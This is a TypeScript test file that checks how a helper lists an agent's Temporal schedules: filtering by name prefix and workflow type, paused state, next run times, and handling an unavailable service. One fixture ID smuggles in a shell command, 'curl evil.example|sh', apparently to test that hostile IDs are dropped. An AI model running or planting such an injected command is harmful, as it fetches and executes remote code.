import type { Client } from '@temporalio/client';
import { status } from '@grpc/grpc-js';
import { msToTs } from '@temporalio/common/lib/time';
import { schedulesOfAgent } from '../../src/client/agents/schedules-of-agent';

const workflowType = { name: 'scheduled-run' };
const next = '2027-01-15T08:00:00.000Z';
const futureActionTimes = [msToTs(Date.parse(next)), msToTs(Date.parse(next) + 86_400_000)];

const namespaceThat = (listSchedules: () => Promise<unknown>) =>
  ({ options: { namespace: 'default' }, workflowService: { listSchedules } }) as unknown as Client;

test('an agent’s schedules are told by name, with when they start it next, and nobody else’s', async () => {
  const schedules = [
    { scheduleId: 'desk/nightly', info: { workflowType, futureActionTimes } },
    { scheduleId: 'desk/mondays', info: { workflowType, futureActionTimes, paused: true } },
    { scheduleId: 'desk/once', info: { workflowType, futureActionTimes: [] } },
    { scheduleId: 'desk/theirs', info: { workflowType: { name: 'theirs' }, futureActionTimes } },
    { scheduleId: 'desk/x; curl evil.example|sh', info: { workflowType, futureActionTimes } },
    { scheduleId: 'desk-too/nightly', info: { workflowType, futureActionTimes } },
  ];
  const client = namespaceThat(() => Promise.resolve({ schedules, nextPageToken: new Uint8Array() }));
  expect(await schedulesOfAgent(client, 'desk')).toEqual([
    { id: 'mondays', paused: true },
    { id: 'nightly', paused: false, next },
    { id: 'once', paused: false },
  ]);
});

test('where Temporal cannot list them nothing is told of them, and the rest of the agent is', async () => {
  const unavailable = Object.assign(new Error('away'), { code: status.UNAVAILABLE, details: 'away', metadata: {} });
  expect(
    await schedulesOfAgent(
      namespaceThat(() => Promise.reject(unavailable)),
      'desk',
    ),
  ).toBeUndefined();
});
